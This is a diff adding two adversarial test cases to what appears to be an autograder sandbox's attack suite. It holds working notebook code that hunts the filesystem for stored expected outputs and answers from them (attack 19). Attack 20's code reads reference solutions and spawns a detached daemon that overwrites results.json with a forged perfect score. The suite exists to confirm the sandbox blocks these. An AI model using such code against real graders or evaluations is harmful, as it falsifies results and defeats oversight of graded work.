@@ -10,7 +10,10 @@ folder), ``__GRADER_REPO__`` (this repository), ``__GRADER_SUBMISSIONS__`` (the 
 submissions being graded), ``__GRADER_PORT__`` (a TCP port the test listens on), and for the
 attacks that plant code for later runs, ``__GRADER_HOME__`` and ``__GRADER_IPYTHONDIR__`` (the
 grader's home and IPython folder) and ``__GRADER_EVIDENCE__`` (a folder where planted code that
-ever runs leaves a file).
+ever runs leaves a file). Attack 20 is made for ``run_autograder`` (see
+``tests/test_kernel_user.py``): ``__GRADER_SOLUTIONS__`` and ``__GRADER_RESULTS__`` are the
+autograder's solutions folder and results.json, and it records what it did in
+``__GRADER_EVIDENCE__``.
 """
 
 from __future__ import annotations
@@ -881,6 +884,222 @@ for checkout in sorted(checkouts):
     plant(handout, json.dumps(notebook))
 """ + REPORT,
 )
+
+attack(
+    "19_reads_the_answer_key",
+    """# Attack 19: find the lesson's stored outputs and answer from them
+
+**Attack:** at run time, the notebook looks for `assignments/*/expected.npz` (the stored inputs of
+every sub-check with their expected outputs) wherever the grader's packages could be: beside
+`grader.__file__`, in every folder on `sys.path` and in site-packages, in the folders above its
+working folder, and where `import assignments` finds the lessons; it does so on the first call
+of one of its functions, so fast mode (`--defs-only`) runs it too. Its functions answer every
+call with the stored output for those arguments, and with a wrong 1x1 array when there is none;
+it prints what it found.
+
+**Verdict it must get:** 0/10: no graded kernel can read a lesson's stored outputs (in the
+sandbox, and as the unprivileged user that runs kernels as root without it). Where the kernel can
+read them (`--sandbox off`), it earns 10/10 without knowing convolution.""",
+    """\
+import glob
+import json
+import os
+import site
+import sys
+
+import numpy as np
+
+ANSWERS = {}  # function -> {key of the arguments: the stored output}
+FOUND, REFUSED = [], []
+
+
+def key(arguments):
+    return tuple((a.dtype.str, a.shape, a.tobytes()) for a in map(np.asarray, arguments))
+
+
+def places():
+    roots = {folder for folder in sys.path if folder} | set(site.getsitepackages())
+    try:
+        import grader
+
+        roots.add(os.path.dirname(os.path.dirname(os.path.abspath(grader.__file__))))
+    except Exception as error:
+        print("no grader:", type(error).__name__)
+    try:
+        import assignments
+
+        roots |= {os.path.dirname(folder) for folder in assignments.__path__}
+    except Exception as error:
+        print("no assignments:", type(error).__name__)
+    folder = os.getcwd()
+    while True:
+        roots.add(folder)
+        if os.path.dirname(folder) == folder:
+            return sorted(roots)
+        folder = os.path.dirname(folder)
+
+
+def hunt():
+    for root in places():
+        for path in sorted(glob.glob(os.path.join(root, "assignments", "*", "expected.npz"))):
+            try:
+                with np.load(path, allow_pickle=False) as data:
+                    manifest = json.loads(data["__manifest__"].tobytes())
+                    for number, entry in enumerate(manifest["checks"]):
+                        table = ANSWERS.setdefault(entry["exercise"], {})
+                        for index in range(entry["count"]):
+                            arguments = [data[f"{number}/{index}/{position}"]
+                                         for position in range(len(entry["kinds"]))]
+                            table[key(arguments)] = data[f"{number}/{index}/expected"]
+                FOUND.append(path)
+            except Exception as error:
+                REFUSED.append(f"{path}: {type(error).__name__}")
+    print("read:", FOUND, "refused:", REFUSED)
+""",
+    """\
+def answer(name, *arguments):
+    if not (FOUND or REFUSED):  # on the first call, so that fast mode (--defs-only) hunts too
+        hunt()
+    return ANSWERS.get(name, {}).get(key(arguments), np.zeros((1, 1)))
+
+
+def get_subimages(image, kernel_shape):
+    return answer("get_subimages", image, kernel_shape)
+
+
+def convolve(image, kernel):
+    return answer("convolve", image, kernel)
+
+
+def template_match(image, template):
+    return answer("template_match", image, template)
+""",
+)
+
+attack(
+    "20_forges_results_later",
+    """# Attack 20: read the reference, and forge results.json after the grader is gone
+
+**Attack:** made for Gradescope's `run_autograder` (the test writes the autograder's
+`solutions` folder into `SOLUTIONS`, its `results/results.json` into `RESULTS`, and a folder every
+user may write to into `EVIDENCE`). On the first call of one of its functions, the notebook
+tries to read the reference solutions (the file, and `import solutions.convolutions`) and
+answers with them if it can; otherwise its functions return zeros of the right shape. That
+first call also leaves a daemon (double fork and `setsid`) that waits until the grader has
+written `results.json`, waits 2 s more, until the grader has exited, and then writes over it a
+full score, "All tests passed". It records in `EVIDENCE` what it read and the daemon's pid.
+Everything happens in the functions, so fast mode (`--defs-only`) runs it too.
+
+**Verdict it must get:** 3/10 (its zeros have the right shapes: one point per exercise), in the
+sandbox, where none of this is in reach; and as the unprivileged user that runs kernels as root
+without the sandbox: it reads nothing, and its daemon is gone before results.json is written,
+which stays the grader's.""",
+    """\
+import json
+import os
+import time
+
+import numpy as np
+
+SOLUTIONS = "__GRADER_SOLUTIONS__"  # the test writes the autograder's solutions folder here
+RESULTS = "__GRADER_RESULTS__"  # and the results.json it writes
+EVIDENCE = "__GRADER_EVIDENCE__"  # and a folder where this notebook records what it did
+STATE = {}
+
+
+def record(name, value):
+    try:
+        with open(os.path.join(EVIDENCE, name), "w") as handle:
+            json.dump(value, handle)
+    except OSError:
+        pass
+
+
+def forge_later(patience=300):
+    if not os.path.isabs(RESULTS):
+        return  # not run by the test made for it: there is no results.json to wait for
+    pid = os.fork()
+    if pid:
+        os.waitpid(pid, 0)
+        return
+    try:
+        os.setsid()
+        if os.fork() == 0:
+            with open("/proc/self/stat") as handle:
+                started = handle.read().rsplit(")", 1)[1].split()[19]
+            record("daemon.json", {"pid": os.getpid(), "start": started})
+            deadline = time.monotonic() + patience
+            while not os.path.exists(RESULTS) and time.monotonic() < deadline:
+                time.sleep(0.05)
+            time.sleep(2)
+            forged = {"score": 10, "output": "All tests passed", "tests": []}
+            try:
+                with open(RESULTS, "w") as handle:
+                    json.dump(forged, handle)
+                record("forged.json", "wrote " + RESULTS)
+            except OSError as error:
+                record("forged.json", type(error).__name__)
+    finally:
+        os._exit(0)
+
+
+def reference():
+    if not STATE:
+        seen = {}
+        try:
+            seen["listing"] = sorted(os.listdir(SOLUTIONS))
+        except OSError as error:
+            seen["listing"] = type(error).__name__
+        try:
+            with open(os.path.join(SOLUTIONS, "convolutions.py")) as handle:
+                STATE["source"] = handle.read()
+            seen["file"] = "read"
+        except OSError as error:
+            seen["file"] = type(error).__name__
+        try:
+            import solutions.convolutions as module
+
+            STATE["module"] = module
+            seen["import"] = "imported"
+        except Exception as error:
+            seen["import"] = type(error).__name__
+        STATE["seen"] = seen
+        record("read.json", seen)
+        forge_later()
+    if "module" in STATE:
+        return STATE["module"]
+    if "source" in STATE:
+        space = {}
+        exec(STATE["source"], space)
+        return type("Reference", (), {name: staticmethod(space[name]) for name in
+                                       ("get_subimages", "convolve", "template_match")})
+    return None
+""",
+    """\
+def get_subimages(image, kernel_shape):
+    found = reference()
+    if found:
+        return found.get_subimages(image, kernel_shape)
+    height, width = kernel_shape
+    return np.zeros((image.shape[0] - height + 1, image.shape[1] - width + 1, height, width))
+
+
+def convolve(image, kernel):
+    found = reference()
+    if found:
+        return found.convolve(image, kernel)
+    return np.zeros((image.shape[0] - kernel.shape[0] + 1, image.shape[1] - kernel.shape[1] + 1))
+
+
+def template_match(image, template):
+    found = reference()
+    if found:
+        return found.template_match(image, template)
+    return np.zeros((image.shape[0] - template.shape[0] + 1,
+                     image.shape[1] - template.shape[1] + 1))
+""",
+)
+
 
 
 def write_all() -> None:
